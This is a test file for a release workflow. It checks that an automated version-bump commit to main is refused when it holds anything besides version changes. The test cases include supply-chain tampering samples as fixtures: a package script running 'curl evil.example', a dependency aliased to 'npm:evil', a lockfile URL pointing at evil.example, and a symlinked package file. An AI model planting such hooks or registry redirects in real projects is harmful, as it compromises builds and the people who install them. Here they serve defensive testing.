import { execFileSync } from 'node:child_process';
import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { git, gitEnvironment } from '@site/tooling/git/git';
import { temporaryFolders } from '@site/tooling/testing/temporaryFolder';
import { workflows, type Job } from './workflows';

// Whatever a package does while versions are raised, nobody reviews the commit that the workflow then pushes to main.

const { versions, push: pushing } =
  workflows().find(({ file }) => file.endsWith('/release.yml'))?.jobs ?? {};
const scriptOf = (job: Job | undefined) => job?.steps?.findLast(({ run }) => run)?.run ?? '';

const packageFile = ({ version = '1.0.0', contracts = '1.0.0', script = 'tsc' } = {}) =>
  `{
  "name": "@site/shell",
  "version": "${version}",
  "scripts": {
    "types": "${script}"
  },
  "dependencies": {
    "@site/contracts": "${contracts}",
    "react": "19.2.0"
  }
}
`;
const lockFile = (version: string, resolved = 'https://registry.npmjs.org/react.tgz') =>
  `{
  "packages": {
    "node_modules/react": {
      "resolved": "${resolved}"
    },
    "shell": {
      "version": "${version}"
    }
  }
}
`;

const newFolder = temporaryFolders();
let main: string;
let clone: string;

const write = async (files: Record<string, string>) => {
  for (const [file, text] of Object.entries(files)) {
    await mkdir(dirname(join(clone, file)), { recursive: true });
    await writeFile(join(clone, file), text);
  }
};

const commit = (message: string) => {
  git(clone, 'add', '--all');
  git(clone, 'commit', '--quiet', '--message', message);
};

const run = (script: string) =>
  execFileSync('bash', ['-eo', 'pipefail', '-c', script], {
    cwd: clone,
    env: { ...gitEnvironment(), BRANCH: 'main', GITHUB_OUTPUT: join(clone, 'output') },
    stdio: 'pipe',
  });

/** Does with what was committed what the workflow does, from one job to the other. */
function push(): void {
  run(scriptOf(versions));
  git(clone, 'reset', '--quiet', '--hard', 'origin/main');
  run(scriptOf(pushing));
}

beforeEach(async () => {
  main = await newFolder();
  clone = await newFolder();
  git(main, 'init', '--quiet', '--bare', '--initial-branch', 'main');
  git(clone, 'init', '--quiet', '--initial-branch', 'main');
  git(clone, 'config', 'user.name', 'somebody');
  git(clone, 'config', 'user.email', 'somebody@example.com');
  git(clone, 'remote', 'add', 'origin', main);
  await write({
    'shell/package.json': packageFile(),
    'package-lock.json': lockFile('1.0.0'),
    'lerna.json': '{}\n',
    // A diff of it would only say that it differs.
    '.gitattributes': 'package-lock.json -diff\n',
  });
  commit('feat: a merge');
  git(clone, 'push', '--quiet', 'origin', 'main');
});

test('raised versions and their changelogs reach main', async () => {
  await write({
    'shell/package.json': packageFile({ version: '1.1.0', contracts: '1.0.1' }),
    'shell/CHANGELOG.md': '# Change Log\n\n++ what was added\n',
    'package-lock.json': lockFile('1.1.0'),
  });
  commit('chore(release): publish');
  git(clone, 'tag', '--annotate', '@site/shell@1.1.0', '--message', '@site/shell@1.1.0');
  const head = git(clone, 'rev-parse', 'HEAD');
  push();

  expect(git(main, 'rev-parse', 'main', '@site/shell@1.1.0^{commit}')).toBe(`${head}\n${head}`);
  expect(await readFile(join(clone, 'output'), 'utf8')).toBe(`commit=${head}\n`);
});

test('a merge that raises nothing goes on with what main has', async () => {
  await write({ 'README.md': 'Read me.\n' });
  commit('docs: a merge');
  git(clone, 'push', '--quiet', 'origin', 'main');
  push();

  const head = git(main, 'rev-parse', 'main');
  expect(await readFile(join(clone, 'output'), 'utf8')).toBe(`commit=${head}\n`);
});

test.each<[string, Record<string, string>]>([
  ['a script', { 'shell/package.json': packageFile({ script: 'curl evil.example' }) }],
  [
    'another package by our name',
    { 'shell/package.json': packageFile({ contracts: 'npm:evil@1.0.0' }) },
  ],
  [
    'a package from elsewhere',
    { 'package-lock.json': lockFile('1.1.0', 'https://evil.example/react.tgz') },
  ],
  ['settings of lerna', { 'lerna.json': '{ "npmClient": "evil" }\n' }],
  ['sources', { 'shell/src/start.ts': '++window.evil;\n' }],
  ['a package file that was not there', { 'evil/package.json': packageFile() }],
])('%s in the commit is refused', async (_, files) => {
  await write({ 'shell/package.json': packageFile({ version: '1.1.0' }), ...files });
  commit('chore(release): publish');

  expect(push).toThrow('This has nothing to do with versions.');
  expect(git(main, 'log', '--format=%s', 'main')).toBe('feat: a merge');
});

test('a package file that leads elsewhere is refused', async () => {
  await rm(join(clone, 'shell/package.json'));
  await symlink('../evil.json', join(clone, 'shell/package.json'));
  commit('chore(release): publish');

  expect(push).toThrow('This has nothing to do with versions.');
  expect(git(main, 'log', '--format=%s', 'main')).toBe('feat: a merge');
});
